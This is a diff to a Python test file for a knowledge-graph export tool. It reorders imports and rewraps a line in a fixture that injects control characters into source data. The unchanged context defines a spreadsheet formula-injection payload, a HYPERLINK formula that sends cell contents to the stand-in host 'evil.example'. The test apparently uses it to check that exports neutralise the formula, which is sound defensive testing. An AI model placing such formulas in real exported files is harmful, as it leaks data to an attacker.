@@ -9,8 +9,8 @@ import xml.etree.ElementTree as ET
 import networkx as nx
 import pytest
 
-from kg.network.export import cell, xml_text
 from conftest import run_kg
+from kg.network.export import cell, xml_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -27,7 +27,8 @@ def hostile(mini, tmp_path):
     source = mini / "data" / "sources" / "memo.txt"
     source.write_bytes(source.read_bytes().replace(b"Mayor Jane Roe said", b"Mayor Jane Roe\x0bsaid", 1))
     statements = mini / "data" / "statements" / "memo.yaml"
-    statements.write_text(statements.read_text(encoding="utf-8").replace("Mayor Jane Roe said", "Mayor Jane Roe\\vsaid"),
+    statements.write_text(statements.read_text(encoding="utf-8")
+                          .replace("Mayor Jane Roe said", "Mayor Jane Roe\\vsaid"),
                           encoding="utf-8")
     store = tmp_path / "store"
     built = run_kg("--root", str(mini), "--store", str(store), "build", "-q")
